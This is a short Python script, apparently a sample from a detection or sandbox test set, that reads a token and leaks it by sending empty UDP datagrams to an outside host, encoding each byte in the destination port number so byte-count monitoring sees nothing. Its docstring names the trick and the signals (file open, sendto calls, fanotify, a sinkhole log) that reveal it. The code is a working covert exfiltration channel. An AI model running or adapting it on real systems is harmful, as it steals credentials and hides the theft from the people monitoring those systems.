#!/usr/bin/python3
"""
Trick: Reads the token and sends empty datagrams: the port numbers are the message.
Known from: port knocking, turned round; a byte count sees nothing leave.
First: open family, for the read; sendto, with the ports
Second: fanotify on the planted inode; the sinkhole's record of the datagrams
"""

import socket

from way_out import HOST, token

to = socket.gethostbyname(HOST)
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for byte in token().rsplit(b"=", 1)[1].strip():
    channel.sendto(b"", (to, 20000 + byte))
print("performed")
